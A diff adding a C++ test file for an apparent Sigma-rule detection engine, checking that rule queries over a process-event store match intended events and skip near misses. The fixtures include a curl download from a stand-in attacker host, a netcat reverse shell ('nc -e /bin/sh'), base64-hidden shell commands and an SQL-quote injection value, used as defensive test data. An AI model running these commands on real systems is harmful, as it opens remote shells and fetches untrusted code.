@@ -1,0 +1,209 @@
+// Sigma rules over a real store: the translated query, run by the guarded
+// QueryEngine as the agent runs rules, finds the events it is meant to and
+// leaves the near misses alone; the scan window bounds what it reads.
+
+#include <fmt/format.h>
+#include <gtest/gtest.h>
+
+#include <airssys/daemoneye/query_engine.hpp>
+#include <airssys/daemoneye/rule.hpp>
+#include <airssys/daemoneye/rule_runner.hpp>
+#include <airssys/daemoneye/store.hpp>
+#include <algorithm>
+#include <ctime>
+#include <set>
+#include <string>
+#include <vector>
+
+#include "store_test_util.hpp"
+
+namespace airssys::daemoneye {
+namespace {
+
+using test::proc;
+using test::TempDir;
+
+class SigmaStore : public ::testing::Test {
+ protected:
+  void SetUp() override {
+    auto s = Store::open({.path = tmp_ / "d.db"});
+    ASSERT_TRUE(s) << s.error();
+    store_ = std::move(*s);
+    // Parents in `processes`, so the store resolves parent_path / parent_cmdline.
+    const std::vector<ProcessRecord> parents{proc(100, "bash", "/usr/bin/bash", "bash -i"),
+                                             proc(110, "nginx", "/usr/sbin/nginx", "nginx: worker process")};
+    ASSERT_TRUE(store_->apply_snapshot(parents));
+    now_ = std::time(nullptr);
+    add(201, "/usr/bin/curl", "curl -sSL http://evil.example/x.sh", 100);
+    add(202, "/USR/BIN/CURL", "CURL -O http://a", 100);
+    add(203, "/tmp/50%_off", "/tmp/50%_off --x");
+    add(204, "/tmp/5000off", "/tmp/5000off");                       // near miss of the literal % and _
+    add(205, "/opt/it's", "echo 'quoted' \\back\\slash");
+    add(206, "/usr/bin/sh", "sh -c echo L2Jpbi9zaCAtaQ== | base64 -d");
+    add(207, "/usr/bin/sh", "sh -c echo eC9iaW4vc2ggLWk= | base64 -d");  // base64 of "x/bin/sh -i"
+    add(208, "/usr/bin/nc", "nc \u2013e /bin/sh 10.0.0.1 4444");       // en dash
+    add(209, "/usr/bin/nc", "nc -e /bin/sh 10.0.0.1 4444");
+    add(210, "/usr/bin/nc", "nc -lvp 4444");                           // near miss: no -e
+    add(213, "/usr/bin/ls", "ls *.txt");
+    add(214, "/usr/bin/ls", "ls a.txt");                               // near miss of the literal *
+    add(220, "/usr/bin/dash", "sh -c id", 110);                        // a web server's child
+    auto hashed = event(230, "/usr/local/bin/tool", "tool");
+    hashed.process.sha256 = std::string(64, 'b');
+    events_.push_back(hashed);
+    auto stop = event(240, "/usr/bin/curl", "curl -sSL http://evil.example/x.sh");
+    stop.kind = EventKind::stop;                                      // not a process creation
+    events_.push_back(stop);
+    auto old = event(241, "/usr/bin/curl", "curl -sSL http://evil.example/x.sh");
+    old.time = now_ - 3600;                                           // before the scan window
+    events_.push_back(old);
+    ASSERT_TRUE(store_->append_events(events_));
+    // An event whose cwd and cmdline are unknown (NULL), as a kernel event
+    // for a process no collection saw may be.
+    test::Peek peek(tmp_ / "d.db");
+    peek.exec(fmt::format("INSERT INTO process_events (time, event, source, pid, parent, name, path, cmdline, cwd, "
+                          "start_time) VALUES ({}, 'exec', 'ebpf', 250, 1, 'zsh', '/usr/bin/zsh', NULL, NULL, 1)",
+                          now_));
+    auto e = QueryEngine::open(tmp_ / "d.db");
+    ASSERT_TRUE(e) << e.error();
+    engine_ = std::move(*e);
+  }
+
+  ProcessEvent event(std::int64_t pid, std::string path, std::string cmdline, std::int64_t parent = 1) {
+    ProcessEvent e;
+    e.kind = EventKind::exec;
+    e.source = EventSource::ebpf;
+    e.time = now_;
+    e.process = proc(pid, path.substr(path.rfind('/') + 1), path, std::move(cmdline), parent);
+    return e;
+  }
+  void add(std::int64_t pid, std::string path, std::string cmdline, std::int64_t parent = 1) {
+    events_.push_back(event(pid, std::move(path), std::move(cmdline), parent));
+  }
+
+  // The pids the rule's query returns, run as the agent runs it.
+  std::set<std::int64_t> matches(const std::string& detection) {
+    auto rule = parse_rule("title: t\nid: t\nlogsource: {product: linux, category: process_creation}\ndetection:\n" +
+                               detection,
+                           "t.yml");
+    EXPECT_TRUE(rule) << (rule ? "" : rule.error().message);
+    if (!rule) return {};
+    auto r = engine_->run(rule->query);
+    EXPECT_TRUE(r) << (r ? "" : r.error().message) << "\n" << rule->query;
+    std::set<std::int64_t> pids;
+    if (!r) return pids;
+    std::size_t col = 0;
+    while (col < r->columns.size() && r->columns[col] != "pid") ++col;
+    for (const auto& row : r->rows) pids.insert(std::get<std::int64_t>(row.at(col)));
+    return pids;
+  }
+
+  TempDir tmp_;
+  std::unique_ptr<Store> store_;
+  std::unique_ptr<QueryEngine> engine_;
+  std::vector<ProcessEvent> events_;
+  std::int64_t now_ = 0;
+};
+
+using Pids = std::set<std::int64_t>;
+
+TEST_F(SigmaStore, CaseWildcardsAndEscapes) {
+  EXPECT_EQ(matches("  s: {Image|endswith: /curl}\n  condition: s\n"), (Pids{201, 202}));
+  EXPECT_EQ(matches("  s: {Image|endswith|cased: /curl}\n  condition: s\n"), (Pids{201}));
+  EXPECT_EQ(matches("  s: {Image: '/usr/bin/c?rl'}\n  condition: s\n"), (Pids{201, 202}));
+  EXPECT_EQ(matches("  s: {Image: '/usr/*/curl'}\n  condition: s\n"), (Pids{201, 202}));
+  EXPECT_EQ(matches("  s: {Image|startswith: '/tmp/50%_'}\n  condition: s\n"), (Pids{203}));
+  EXPECT_EQ(matches("  s: {Image|cased: '/tmp/50%_off'}\n  condition: s\n"), (Pids{203}));
+  EXPECT_EQ(matches("  s: {CommandLine|contains: '\\*.txt'}\n  condition: s\n"), (Pids{213}));
+  EXPECT_EQ(matches("  s: {CommandLine|contains|cased: '\\*.txt'}\n  condition: s\n"), (Pids{213}));
+  EXPECT_EQ(matches("  s: {Image: \"/opt/it's\"}\n  condition: s\n"), (Pids{205}));
+  EXPECT_EQ(matches("  s: {CommandLine|endswith: \"\\\\back\\\\slash\"}\n  condition: s\n"), (Pids{205}));
+  EXPECT_EQ(matches("  s: {CommandLine|contains: \"'quoted'\"}\n  condition: s\n"), (Pids{205}));
+  // A value built to escape its quotes finds nothing and breaks nothing.
+  EXPECT_EQ(matches("  s: {CommandLine|contains: \"x' OR 1=1 OR '\"}\n  condition: s\n"), (Pids{}));
+}
+
+TEST_F(SigmaStore, ModifiersAndFields) {
+  EXPECT_EQ(matches("  s: {CommandLine|contains|all: [curl, evil]}\n  condition: s\n"), (Pids{201}));
+  EXPECT_EQ(matches("  s: {CommandLine|contains: [evil, 'http://a']}\n  condition: s\n"), (Pids{201, 202}));
+  EXPECT_EQ(matches("  s: {CommandLine|re: 'curl\\s+-sSL'}\n  condition: s\n"), (Pids{201}));
+  EXPECT_EQ(matches("  s: {CommandLine|re: '^curl -o'}\n  condition: s\n"), (Pids{}));
+  EXPECT_EQ(matches("  s: {CommandLine|re|i: '^curl -o'}\n  condition: s\n"), (Pids{202}));
+  EXPECT_EQ(matches("  s: {CommandLine|base64|contains: '/bin/sh -i'}\n  condition: s\n"), (Pids{206}));
+  EXPECT_EQ(matches("  s: {CommandLine|base64offset|contains: '/bin/sh -i'}\n  condition: s\n"), (Pids{206, 207}));
+  EXPECT_EQ(matches("  s: {CommandLine|windash|contains: ' -e '}\n  condition: s\n"), (Pids{208, 209}));
+  EXPECT_EQ(matches("  s: {CommandLine|contains: ' -e '}\n  condition: s\n"), (Pids{209}));
+  EXPECT_EQ(matches("  s: {ParentImage|endswith: /nginx}\n  condition: s\n"), (Pids{220}));
+  EXPECT_EQ(matches("  s: {ParentCommandLine: 'bash -i', Image|endswith: /curl}\n  condition: s\n"), (Pids{201, 202}));
+  EXPECT_EQ(matches("  s: {ProcessId: 213}\n  condition: s\n"), (Pids{213}));
+  EXPECT_EQ(matches("  s: {ParentProcessId: 110}\n  condition: s\n"), (Pids{220}));
+  EXPECT_EQ(matches("  s: {ProcessId|gte: 240, ProcessId|lt: 251}\n  condition: s\n"), (Pids{250}));
+  EXPECT_EQ(matches(fmt::format("  s: {{Hashes: 'SHA256={}'}}\n  condition: s\n", std::string(64, 'B'))), (Pids{230}));
+  EXPECT_EQ(matches("  s: {CurrentDirectory: null}\n  condition: s\n"), (Pids{250}));
+  EXPECT_EQ(matches("  s: {CommandLine|exists: false}\n  condition: s\n"), (Pids{250}));
+  EXPECT_EQ(matches("  keywords: ['4444', evil.example]\n  condition: keywords\n"), (Pids{201, 208, 209, 210}));
+}
+
+TEST_F(SigmaStore, ConditionsTreatAMissingFieldAsNoMatch) {
+  // 250's cmdline is NULL: `not filter` holds for it, as in Sigma.
+  EXPECT_EQ(matches("  s: {Image|endswith: [/zsh, /ls]}\n  filter: {CommandLine|contains: a.txt}\n"
+                    "  condition: s and not filter\n"),
+            (Pids{213, 250}));
+  EXPECT_EQ(matches("  sel_nc: {Image|endswith: /nc}\n  sel_port: {CommandLine|contains: '4444'}\n"
+                    "  condition: all of sel_*\n"),
+            (Pids{208, 209, 210}));
+  EXPECT_EQ(matches("  sel_nc: {Image|endswith: /nc}\n  sel_ls: {Image|endswith: /ls}\n  condition: 1 of them\n"),
+            (Pids{208, 209, 210, 213, 214}));
+  EXPECT_EQ(matches("  a: {Image|endswith: /nc}\n  b: {CommandLine|contains: '-e'}\n  c: {CommandLine|contains: '-l'}\n"
+                    "  condition: a and (b or c) and not (c)\n"),
+            (Pids{209}));
+}
+
+TEST_F(SigmaStore, RunsAsARuleWithTheScanWindow) {
+  auto rule = parse_rule("title: curl\nid: curl\nlevel: high\nlogsource: {product: linux, category: process_creation}\n"
+                         "detection: {s: {Image|endswith: /curl}, condition: s}\n",
+                         "curl.yml");
+  ASSERT_TRUE(rule) << rule.error().message;
+  // The guarded engine accepts it (regexp() is allowed) and the dedup key columns exist.
+  auto cols = engine_->columns(rule->query);
+  ASSERT_TRUE(cols) << cols.error();
+  EXPECT_NE(std::ranges::find(*cols, "start_time"), cols->end());
+  RuleRun run = run_rules({*rule}, *engine_, "host", now_);
+  ASSERT_TRUE(run.failures.empty()) << run.failures.front().message;
+  ASSERT_EQ(run.candidates.size(), 2u);  // 201, 202; not the stop event 240 nor the old event 241
+  EXPECT_EQ(run.candidates[0].severity, Severity::high);
+  EXPECT_NE(run.candidates[0].row_json.find("\"pid\":201"), std::string::npos) << run.candidates[0].row_json;
+
+  // After a scan collected at now-7200 the window reaches back to it: 241 (an hour ago) is seen.
+  ASSERT_TRUE(store_->record_scan({.scan_id = 1, .time = now_ - 7200}));
+  auto wide = engine_->run(rule->query);
+  ASSERT_TRUE(wide) << wide.error();
+  EXPECT_EQ(wide->rows.size(), 3u);
+  // A later scan at now-60 narrows it to the last two minutes again.
+  ASSERT_TRUE(store_->record_scan({.scan_id = 2, .time = now_ - 60}));
+  auto narrow = engine_->run(rule->query);
+  ASSERT_TRUE(narrow) << narrow.error();
+  EXPECT_EQ(narrow->rows.size(), 2u);
+
+  // The window goes through the time index: the work does not grow with the table.
+  test::Peek peek(tmp_ / "d.db");
+  auto plan = sqlite::prepare(peek.get(), "EXPLAIN QUERY PLAN " + rule->query);
+  ASSERT_TRUE(plan) << plan.error().message;
+  std::string details;
+  while (::sqlite3_step(plan->get()) == SQLITE_ROW)
+    details += reinterpret_cast<const char*>(::sqlite3_column_text(plan->get(), 3)) + std::string("\n");
+  EXPECT_NE(details.find("SEARCH process_events USING INDEX process_events_time (time>?)"), std::string::npos)
+      << details;
+}
+
+TEST_F(SigmaStore, ARegexAtItsLimitIsReportedNotSilenced) {
+  // Catastrophic backtracking on a long value: PCRE2 stops at its match
+  // limit and the row counts as a match instead of failing the rule.
+  test::Peek peek(tmp_ / "d.db");
+  peek.exec(fmt::format("INSERT INTO process_events (time, event, source, pid, parent, name, path, cmdline, "
+                        "start_time) VALUES ({}, 'exec', 'ebpf', 260, 1, 'x', '/x', '{}!', 1)",
+                        now_, std::string(5000, 'a')));
+  EXPECT_EQ(matches("  s: {CommandLine|re: '^(a|aa)+$'}\n  condition: s\n"), (Pids{260}));
+}
+
+}  // namespace
+}  // namespace airssys::daemoneye
